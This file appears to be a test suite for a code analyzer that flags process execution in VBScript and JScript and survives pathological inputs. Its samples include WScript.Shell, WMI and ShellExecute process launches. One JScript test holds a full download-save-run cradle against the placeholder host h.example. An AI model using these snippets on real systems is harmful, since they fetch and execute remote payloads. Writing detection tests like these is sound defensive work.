import { beforeAll, expect, test } from "vitest";
import type { CodeContext } from "../../../../src/review/code/run.ts";
import {
  described,
  factsOf,
  isCapability,
  isFlow,
  loadContext,
} from "../../../conformance/harness.ts";

let context: CodeContext;
beforeAll(async () => {
  context = await loadContext();
});

const RUNS = `CreateObject("WScript.Shell").Run "id"`;

test.each([
  ["parentheses", `x = ${"(".repeat(5000)}1${")".repeat(5000)}`],
  ["conditions", `${"If a Then\n".repeat(5000)}${"End If\n".repeat(5000)}`],
  ["conditions on a line", `${"If a Then ".repeat(5000)}x = 1`],
  ["signs", `x = ${"-".repeat(5000)}1`],
])("%s that nest too deep are refused with a RangeError", (_, text) => {
  expect(() => factsOf("vbscript", text, context)).toThrow(RangeError);
});

test.each([
  ["a text of very many parts", `x = ${Array.from({ length: 5000 }, () => '"a"').join(" & ")}`],
  ["a text that doubles", `x = "a"\nFor i = 0 To 100000\nx = x & x\nNext`],
  ["code that runs itself", `s = "Execute s"\nExecute s`],
  [
    "a function that calls itself in three ways",
    "Function f(n)\nf = f(n) & f(n) & f(n)\nEnd Function\nx = f(0)",
  ],
  ["a huge repetition", `x = String(999999999, "a")`],
  ["a text without an end", `x = "a`],
  ["a block without an end", `If a Then\nDo\nFor i = 1 To 2`],
  ["words that mean nothing here", `) ( = , . End End Sub Next Loop Case`],
  ["a byte of zero", `x\u0000 = 1`],
  ["a very long line", `x = 1${" : x = 2".repeat(20_000)}`],
])("%s comes to an end, and what stands before it is read", (_, text) => {
  const facts = factsOf("vbscript", `${RUNS}\n${text}`, context);
  expect(
    facts.some((fact) => isCapability(fact, { capability: "execute.process", target: "id" })),
    described(facts).join("\n"),
  ).toBe(true);
});

test.each([
  ["case means nothing", `CREATEOBJECT("wscript.SHELL").rUN "id"`],
  ["a line that goes on", `CreateObject("WScript.Shell"). _\n  Run _\n  "id"`],
  ["statements on one line", `Set s = CreateObject("WScript.Shell") : s.Run "id" : x = 1`],
  ["an argument in parentheses", `Set s = CreateObject("WScript.Shell")\ns.Run ("id"), 0, True`],
  ["a call with the word for it", `Set s = CreateObject("WScript.Shell")\nCall s.Run("id", 0)`],
  ["a block for one object", `With CreateObject("WScript.Shell")\n.Run "id"\nEnd With`],
  [
    "an object that a function makes",
    `Function m\nSet m = CreateObject("WScript.Shell")\nEnd Function\nm.Run "id"`,
  ],
  [
    "a process of the management service",
    `GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create "id"`,
  ],
  [
    "a command for the shell of Windows",
    `CreateObject("Shell.Application").ShellExecute "cmd.exe", "/c id", "", "open", 0`,
  ],
])("a program is started: %s", (_, text) => {
  const facts = factsOf("vbscript", text, context);
  expect(
    facts.some((fact) => isCapability(fact, { capability: "execute.process", target: "id" })),
    described(facts).join("\n"),
  ).toBe(true);
});

test("JScript has the same objects under its own names", () => {
  const text = `var h = new ActiveXObject("Msxml2.XMLHTTP.6.0"); h.open("GET", "https://h.example/p", false); h.send();
var s = WScript.CreateObject("ADODB.Stream"); s.Open(); s.Write(h.responseBody); s.SaveToFile("C:\\\\p.exe", 2);
new ActiveXObject("WScript.Shell").Run("C:\\\\p.exe");`;
  const facts = factsOf("javascript", text, context);
  const flow = {
    from: "network.receive" as const,
    to: "execute.code" as const,
    source: "https://h.example/p",
  };
  expect(
    facts.some((fact) => isFlow(fact, flow)),
    described(facts).join("\n"),
  ).toBe(true);
});

test("text that only looks like code is none", () => {
  const text = `' CreateObject("WScript.Shell").Run "id"\nRem CreateObject("WScript.Shell").Run "id"\nx = "CreateObject(""WScript.Shell"").Run ""id"""\nWScript.Echo x`;
  expect(factsOf("vbscript", text, context)).toEqual([]);
});
